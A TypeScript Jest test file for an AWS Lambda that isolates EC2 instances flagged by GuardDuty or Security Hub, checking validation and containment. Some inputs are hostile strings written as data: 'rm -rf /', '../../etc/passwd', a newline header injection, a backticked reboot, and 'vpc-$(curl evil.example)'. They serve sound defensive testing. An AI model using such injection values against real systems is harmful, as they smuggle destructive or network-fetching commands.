import {
  DescribeInstancesCommand,
  DescribeSecurityGroupsCommand,
  ModifyNetworkInterfaceAttributeCommand,
} from '@aws-sdk/client-ec2';
import { handler } from '../../../lambdas/isolate-ec2';
import noInterfaceIds from '../../fixtures/guardduty/ec2-no-interface-ids.json';
import { createMocks, sentActions } from '../../support/aws';
import { arrange, ENIS, guardDutyEvent, INSTANCE, securityHubEvent, sent, VPC_A } from './support';

const mocks = createMocks();

// Every test starts from a healthy account; a test that needs another arrangement calls it again.
beforeEach(() => {
  arrange(mocks);
});

type GuardDutyEvent = ReturnType<typeof guardDutyEvent>;
type SecurityHubEvent = ReturnType<typeof securityHubEvent>;

/** A GuardDuty event with one change. */
function gd(change: (e: GuardDutyEvent) => void): GuardDutyEvent {
  const event = guardDutyEvent();
  change(event);
  return event;
}

/** A Security Hub event with one change. */
function sh(change: (e: SecurityHubEvent) => void): SecurityHubEvent {
  const event = securityHubEvent();
  change(event);
  return event;
}

/** Overwrites a field with a value of another type, as a hostile sender would. */
function set(target: object, key: string, value: unknown): void {
  Object.assign(target, { [key]: value });
}

describe('isolate-ec2: bad input', () => {
  it.each<[string, unknown, string]>([
    ['an empty object', {}, 'detail-type'],
    ['null', null, '(event)'],
    ['an array', [guardDutyEvent()], '(event)'],
    [
      'another detail-type',
      gd((e) => set(e, 'detail-type', 'AWS API Call via CloudTrail')),
      'source / detail-type',
    ],
    [
      'a Config compliance change',
      gd((e) => {
        e.source = 'aws.config';
        e['detail-type'] = 'Config Rules Compliance Change';
      }),
      'source / detail-type',
    ],
    [
      'no instance details',
      gd((e) => set(e.detail.resource, 'instanceDetails', undefined)),
      'detail.resource.instanceDetails',
    ],
    [
      'an instance id of the wrong type',
      gd((e) => set(e.detail.resource.instanceDetails, 'instanceId', 1234)),
      'detail.resource.instanceDetails.instanceId',
    ],
    [
      'an over-long instance id',
      gd((e) => set(e.detail.resource.instanceDetails, 'instanceId', `i-${'0'.repeat(5000)}`)),
      'detail.resource.instanceDetails.instanceId',
    ],
    [
      'a shell-like instance id',
      gd((e) => set(e.detail.resource.instanceDetails, 'instanceId', 'i-0a1b2c3d; rm -rf /')),
      'detail.resource.instanceDetails.instanceId',
    ],
    ['a hostile finding id', gd((e) => set(e.detail, 'id', '../../etc/passwd\n')), 'detail.id'],
    ['a short account id', gd((e) => set(e.detail, 'accountId', '2222')), 'detail.accountId'],
    [
      'a region with a newline',
      gd((e) => set(e.detail, 'region', 'us-east-1\nX-Injected: 1')),
      'detail.region',
    ],
    [
      'a Security Hub event without findings',
      sh((e) => set(e.detail, 'findings', [])),
      'detail.findings',
    ],
    [
      'a shell-like Security Hub resource id',
      sh((e) => set(e.detail.findings[1]?.Resources[0] ?? {}, 'Id', '`reboot`')),
      'detail.findings[1].Resources[0].Id',
    ],
    [
      'an instance ARN of another account',
      sh((e) =>
        set(
          e.detail.findings[0]?.Resources[0] ?? {},
          'Id',
          'arn:aws:ec2:us-east-1:999999999999:instance/i-0a1b2c3d4e5f60789',
        ),
      ),
      'detail.findings[0].Resources[0].Id',
    ],
    [
      'an instance ARN of another region',
      sh((e) =>
        set(
          e.detail.findings[0]?.Resources[0] ?? {},
          'Id',
          'arn:aws:ec2:eu-west-1:222222222222:instance/i-0a1b2c3d4e5f60789',
        ),
      ),
      'detail.findings[0].Resources[0].Id',
    ],
  ])('rejects %s naming the field, with no AWS call at all', async (_title, event, path) => {
    // Act
    const error = await handler(event).then(
      () => undefined,
      (e: unknown) => e as Error,
    );
    // Assert
    expect(error?.name).toBe('InvalidEventError');
    expect(error?.message.startsWith(path)).toBe(true);
    expect(error?.message.length).toBeLessThan(400);
    expect(error?.message).not.toContain('\n');
    expect(sentActions(mocks)).toEqual([]);
  });
});

describe('isolate-ec2: findings it does not act on', () => {
  it.each<[string, unknown, string]>([
    [
      'a GuardDuty finding about an access key',
      gd((e) => {
        e.detail.resource.resourceType = 'AccessKey';
        set(e.detail.resource, 'instanceDetails', undefined);
      }),
      'the finding is about a "AccessKey" resource, not an EC2 instance',
    ],
    [
      'a sample GuardDuty finding',
      gd((e) => set(e.detail.service.additionalInfo, 'sample', true)),
      'the GuardDuty finding is a sample finding',
    ],
    [
      'an archived GuardDuty finding',
      gd((e) => set(e.detail.service, 'archived', true)),
      'the GuardDuty finding is archived',
    ],
    [
      'a Security Hub finding about a bucket',
      sh((e) => {
        e.detail.findings = e.detail.findings.slice(0, 1);
        set(e.detail.findings[0]?.Resources[0] ?? {}, 'Type', 'AwsS3Bucket');
        set(e.detail.findings[0]?.Resources[0] ?? {}, 'Id', 'arn:aws:s3:::payments-data');
      }),
      'the finding has no AwsEc2Instance resource (resources: AwsS3Bucket)',
    ],
    [
      'an archived Security Hub finding',
      sh((e) => {
        e.detail.findings = e.detail.findings.slice(0, 1);
        set(e.detail.findings[0] ?? {}, 'RecordState', 'ARCHIVED');
      }),
      'the Security Hub finding is archived',
    ],
  ])('ignores %s without calling EC2 or STS', async (_title, event, reason) => {
    // Act
    const { outcomes } = await handler(event);
    // Assert
    expect(outcomes).toHaveLength(1);
    expect(outcomes[0]).toMatchObject({ status: 'ignored', reason, steps: [] });
    expect(sentActions(mocks)).toEqual(['sns:Publish']);
  });
});

describe('isolate-ec2: Security Hub resource ids', () => {
  it('accepts a bare instance id and looks up the VPC the details name', async () => {
    // Arrange
    arrange(mocks, { groups: 'clean' });
    const event = sh((e) => {
      e.detail.findings = e.detail.findings.slice(0, 1);
      set(e.detail.findings[0]?.Resources[0] ?? {}, 'Id', INSTANCE);
    });
    // Act
    const { outcomes } = await handler(event);
    // Assert
    expect(outcomes[0]?.status).toBe('contained');
    expect(sent(mocks.ec2, DescribeInstancesCommand)).toEqual([{ InstanceIds: [INSTANCE] }]);
    expect(sent(mocks.ec2, DescribeSecurityGroupsCommand)[0]?.Filters?.[0]).toEqual({
      Name: 'vpc-id',
      Values: [VPC_A],
    });
  });
});

describe('isolate-ec2: hints in the finding', () => {
  it('isolates an instance of an older finding whose interfaces have no networkInterfaceId', async () => {
    // Arrange
    arrange(mocks, { groups: 'clean' });
    const event = structuredClone(noInterfaceIds);

    // Act
    const { outcomes } = await handler(event);

    // Assert: the live read names the interfaces; every one of them is moved
    expect(outcomes[0]).toMatchObject({ status: 'contained', resource: INSTANCE });
    const moved = sent(mocks.ec2, ModifyNetworkInterfaceAttributeCommand).map(
      (m) => m.NetworkInterfaceId,
    );
    expect(new Set(moved)).toEqual(new Set(ENIS.map((e) => e.id)));
  });

  it.each<[string, unknown]>([
    [
      'a shell-like GuardDuty VPC id',
      gd((e) =>
        set(
          e.detail.resource.instanceDetails.networkInterfaces[0] ?? {},
          'vpcId',
          'vpc-$(curl evil.example)',
        ),
      ),
    ],
    [
      'a GuardDuty sample placeholder VPC id on a real finding',
      gd((e) => {
        for (const n of e.detail.resource.instanceDetails.networkInterfaces) {
          set(n, 'vpcId', 'GeneratedFindingVPCId');
        }
      }),
    ],
    [
      'GuardDuty interfaces that are not a list',
      gd((e) =>
        set(e.detail.resource.instanceDetails, 'networkInterfaces', 'eni-0a00000000000a001'),
      ),
    ],
    [
      'an ASFF VPC id of the wrong type',
      sh((e) => {
        e.detail.findings = e.detail.findings.slice(0, 1);
        set(e.detail.findings[0]?.Resources[0]?.Details.AwsEc2Instance ?? {}, 'VpcId', ['vpc-1']);
      }),
    ],
  ])('drops %s as a hint and isolates from the live read', async (_title, event) => {
    // Arrange
    arrange(mocks, { groups: 'clean' });

    // Act
    const { outcomes } = await handler(event);

    // Assert: no lookup ever names the malformed VPC; the live VPCs are used
    expect(outcomes[0]?.status).toBe('contained');
    const filtered = sent(mocks.ec2, DescribeSecurityGroupsCommand).flatMap(
      (c) => c.Filters?.find((f) => f.Name === 'vpc-id')?.Values ?? [],
    );
    expect(filtered.every((v) => /^vpc-[0-9a-f]{8,17}$/.test(v))).toBe(true);
    expect(sent(mocks.ec2, ModifyNetworkInterfaceAttributeCommand).length).toBeGreaterThan(0);
  });
});
